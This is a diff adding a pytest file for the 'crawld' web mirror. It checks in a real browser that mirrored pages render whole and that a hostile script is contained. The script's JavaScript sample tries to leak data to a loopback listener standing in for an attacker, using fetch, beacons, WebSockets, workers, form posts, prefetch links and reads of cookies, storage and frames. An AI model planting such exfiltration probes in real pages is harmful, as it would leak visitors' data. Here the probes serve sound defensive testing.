@@ -1,0 +1,299 @@
+"""The mirror in a real browser: pages whole, scripts shut in, originals switched off."""
+
+import contextlib
+import json
+import re
+import socket
+import struct
+import threading
+import zlib
+from contextlib import closing, contextmanager
+from http.client import HTTPConnection
+from urllib.parse import urlsplit
+
+import pytest
+
+from crawld.store import migrate
+from tests.peer.chromium import requests_of, with_chromium
+from tests.peer.daemon import with_serve
+
+from .operated import rows, site, write_config
+
+
+def chunk(name, data):
+    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
+
+
+PNG = b"".join(
+    (
+        b"\x89PNG\r\n\x1a\n",
+        chunk(b"IHDR", struct.pack(">IIBBBBB", 3, 1, 8, 0, 0, 0, 0)),
+        chunk(b"IDAT", zlib.compress(b"\0abc")),
+        chunk(b"IEND", b""),
+    )
+)
+"""A picture three pixels wide."""
+
+
+@pytest.fixture(scope="module")
+def browser():
+    with with_chromium() as running:
+        yield running
+
+
+@pytest.fixture
+def page(browser):
+    with closing(browser.new_context()) as context:
+        yield context.new_page()
+
+
+@contextmanager
+def a_stranger():
+    """Listen on loopback and note whoever comes; yields the port and the list."""
+    came = []
+    with socket.create_server(("127.0.0.1", 0)) as listening:
+
+        def accept():
+            while True:
+                try:
+                    visitor, _ = listening.accept()
+                except OSError:
+                    return
+                with visitor, contextlib.suppress(TimeoutError):
+                    visitor.settimeout(1.0)  # a connection alone says nothing
+                    came.append(visitor.recv(4096))
+
+        thread = threading.Thread(target=accept, daemon=True)
+        thread.start()
+        yield listening.getsockname()[1], came
+        listening.shutdown(socket.SHUT_RDWR)
+        thread.join()
+
+
+@pytest.fixture
+def mirrored(nginx, crawld):
+    """Return a function that mirrors a tree of files and ends its server."""
+
+    def mirror(files, *options):
+        folder = crawld.folder / "tree"
+        for name, content in files.items():
+            path = folder / name
+            path.parent.mkdir(parents=True, exist_ok=True)
+            path.write_bytes(content if isinstance(content, bytes) else content.encode())
+        server = nginx({"127.0.0.1": folder})
+        start = server.url("/index.html")
+        done = crawld.crawld("mirror", start, "--delay", "0", "--once", "--depth", "3", *options)
+        assert done.returncode in (0, 3), done.stderr
+        server.process.end()
+        return start
+
+    return mirror
+
+
+@pytest.fixture
+def serve(peers, crawld):
+    """Return a function that starts `crawld serve` and returns the URL it prints."""
+
+    def start(*options):
+        return peers.enter_context(with_serve(crawld, *options)).rstrip("/")
+
+    return start
+
+
+def path_of(url):
+    return "/" + url.replace("://", "/", 1)
+
+
+def test_a_page_is_shown_whole(mirrored, serve, page):
+    start = mirrored(
+        {
+            "index.html": "<link rel=stylesheet href=/s/style.css><body><p id=p>text</p>"
+            '<img id=i src="i.png"><a id=a href="sub/b.html#x">b</a>',
+            "s/style.css": "#p{color:rgb(1,2,3);background-image:url(../i.png)}",
+            "i.png": PNG,
+            "sub/b.html": "<base href=/><title>B</title><a id=back href=index.html>back</a>",
+        }
+    )
+    mirror = serve()
+    made = requests_of(page)
+    page.goto(mirror + path_of(start))
+    color = page.evaluate("getComputedStyle(document.getElementById('p')).color")
+    width = page.evaluate("document.getElementById('i').naturalWidth")
+    assert (color, width) == ("rgb(1, 2, 3)", 3)
+    page.click("#a")
+    assert page.title() == "B"
+    page.click("#back")
+    assert page.url == mirror + path_of(start)
+    assert all(url.startswith(mirror) for url in made)
+
+
+ATTACKS = """
+const out = 'http://127.0.0.1:%(port)d/', results = {};
+const tell = name => error => { results[name] = String(error && error.message || error); };
+const tried = [
+  fetch(out + 'fetch').catch(tell('fetch')),
+  fetch('/').then(answer => answer.text()).then(text => { results.read = text; }, tell('own')),
+  fetch('/search?q=x', {mode: 'no-cors'}).catch(tell('nocors')),
+  new Promise(done => { const i = new Image(); i.onerror = i.onload = done; i.src = out + 'img'; }),
+  new Promise(done => { const s = document.createElement('script');
+    s.onerror = s.onload = done; s.src = out + 'script'; document.head.append(s); }),
+  new Promise(done => { const l = document.createElement('link'); l.rel = 'stylesheet';
+    l.onerror = l.onload = done; l.href = out + 'css'; document.head.append(l); }),
+];
+try { navigator.sendBeacon(out + 'beacon', 'x'); } catch (error) { tell('beacon')(error); }
+try { new WebSocket(out.replace('http', 'ws') + 'ws'); } catch (error) { tell('ws')(error); }
+try { new EventSource(out + 'events'); } catch (error) { tell('events')(error); }
+try { new Worker(out + 'worker'); } catch (error) { tell('worker')(error); }
+try { localStorage.x = 1; results.storage = 'kept'; } catch (error) { tell('storage')(error); }
+try { document.cookie = 'a=b'; results.cookie = document.cookie; }
+catch (error) { tell('cookie')(error); }
+const form = document.createElement('form');
+form.action = out + 'form'; form.target = 'inner'; form.method = 'post';
+const frame = document.createElement('iframe'); frame.name = 'inner'; frame.src = '/';
+document.body.append(frame, form); form.submit();
+for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'modulepreload']) {
+  const link = document.createElement('link'); link.rel = rel; link.href = out + rel;
+  document.head.append(link);
+}
+Promise.allSettled(tried).then(() => setTimeout(() => {
+  try { results.frame = frame.contentDocument ? frame.contentDocument.body.innerText : null; }
+  catch (error) { results.frame = 'shut'; }
+  results.done = true;
+  document.body.dataset.results = JSON.stringify(results);
+}, 300));
+"""
+
+
+def test_a_hostile_script_reaches_nothing(mirrored, serve, page):
+    with a_stranger() as (port, came):
+        start = mirrored(
+            {
+                "index.html": "<meta http-equiv=refresh content='9999;url=/'><body>"
+                f"<script>{ATTACKS % {'port': port}}</script>"
+                f'<img src="http://127.0.0.1:{port}/static"><a ping="http://127.0.0.1:{port}/ping">'
+            },
+            "--no-requisites",
+        )
+        came.clear()
+        mirror = serve()
+        page.goto(mirror + path_of(start))
+        page.wait_for_selector("body[data-results]", timeout=20_000)
+        results = json.loads(page.get_attribute("body", "data-results"))
+    assert results["done"]
+    assert results.keys() & {"read"} == set()
+    assert results.get("cookie", "") == "" or "cookie" in results["cookie"].lower()
+    assert results["storage"] != "kept"
+    assert results["frame"] in (None, "shut", "")
+    assert [request for request in came if request] == []
+
+
+def test_without_scripts_none_runs(mirrored, serve, page):
+    start = mirrored({"index.html": "<title>as it came</title><script>document.title='x'</script>"})
+    page.goto(serve("--no-scripts") + path_of(start))
+    assert page.title() == "as it came"
+
+
+def test_a_document_with_its_own_policy_is_shown(mirrored, serve, page):
+    start = mirrored(
+        {
+            "index.html": '<meta http-equiv="Content-Security-Policy" content="img-src evil.test">'
+            '<img id=i src=i.png integrity="sha256-AA" crossorigin>',
+            "i.png": PNG,
+        }
+    )
+    page.goto(serve() + path_of(start))
+    assert page.evaluate("document.getElementById('i').naturalWidth") == 3
+
+
+def test_fonts_and_modules_load(mirrored, serve, page):
+    start = mirrored(
+        {
+            "index.html": "<script type=module src=m.js></script><p>text",
+            "m.js": "document.title = 'loaded'",
+        }
+    )
+    page.goto(serve() + path_of(start))
+    page.wait_for_function("document.title === 'loaded'")
+
+
+def visible_text(page):
+    page.evaluate("document.querySelectorAll('crawld-banner').forEach(e => e.remove())")
+    return page.evaluate("document.body.innerText")
+
+
+def test_a_wiki_switched_off_reads_the_same(mediawiki, crawld, serve, browser):
+    """The testbed MediaWiki, then its mirror without it: same text, with styles and images."""
+    wiki = mediawiki
+    wiki.set_robots(None)  # its styles come from /w/, which is closed to robots
+    urls = [wiki.url("Main Page"), *(wiki.url(each.title) for each in wiki.pages[:3])]
+    config = write_config(
+        crawld,
+        {**site(*urls, name="wiki", max_depth=0, requisites=True)},
+        politeness={"host_delay_s": 0.0, "address_delay_s": 0.0},
+    )
+    crawld.start("run", "-c", config)
+    crawld.wait_until(
+        lambda _: (
+            rows(crawld, "SELECT count(*) FROM page WHERE state = 'discovered'") == [(0,)]
+            and rows(crawld, "SELECT count(*) FROM page WHERE version_id IS NOT NULL")[0][0]
+            > len(urls)
+        )
+    )
+    with closing(browser.new_context(java_script_enabled=False)) as context:
+        page = context.new_page()
+        before = []
+        for url in urls:
+            page.goto(url)
+            before.append((page.title(), visible_text(page)))
+        assert crawld.terminate() == 0
+        wiki.nginx.process.end()
+        mirror = serve("--no-scripts")
+        made = requests_of(page)
+        for url, was in zip(urls, before, strict=True):
+            page.goto(mirror + path_of(url))
+            assert (page.title(), visible_text(page)) == was
+        assert all(url.startswith(mirror) for url in made)
+        styled = "[...document.styleSheets].filter(sheet => sheet.cssRules.length).length"
+        assert page.evaluate(styled.replace("sheet.cssRules.length", "sheet.ownerNode")) > 0
+
+
+def test_serving_beside_a_daemon(simweb, crawld, serve):
+    web = simweb("--host=a.test", "--pages=200")
+    listen = {"listen": "127.0.0.1:0"}
+    config = write_config(crawld, site(web.url("/", "a.test")), web=listen)
+    crawld.start("run", "-c", config)
+    crawld.wait_until(lambda status: status["pages"]["visited"] > 20)
+    mirror = serve()
+    own = re.search(r"http://127\.0\.0\.1:[0-9]+/", crawld.output())[0]
+    for address in (mirror, own.rstrip("/")):
+        parts = urlsplit(address)
+        connection = HTTPConnection(parts.hostname, parts.port, timeout=20)
+        with closing(connection):
+            for target, status in (("/", 200), (path_of(web.url("/", "a.test")), 200)):
+                connection.request("GET", target)
+                answer = connection.getresponse()
+                assert (answer.status, answer.read() != b"") == (status, True)
+            connection.request("HEAD", path_of(web.url("/", "a.test")))
+            answer = connection.getresponse()
+            assert (answer.status, answer.read()) == (200, b"")
+            assert int(answer.headers["content-length"]) > 100
+            connection.request("POST", "/", b"x")
+            answer = connection.getresponse()
+            assert answer.status == 405
+            answer.read()
+    assert crawld.terminate() == 0
+
+
+@pytest.mark.parametrize(
+    ("options", "said"),
+    [
+        (("--db", "none.db"), "there is no database none.db"),
+        (("--listen", "nowhere"), "must be an address and a port"),
+        (("--listen", "192.0.2.1:80"), "cannot listen on 192.0.2.1:80"),
+    ],
+)
+def test_what_cannot_be_served_is_said(crawld, options, said):
+    migrate.migrate(crawld.db)
+    done = crawld.crawld("serve", *options)
+    assert done.returncode == 2
+    assert said in done.stderr
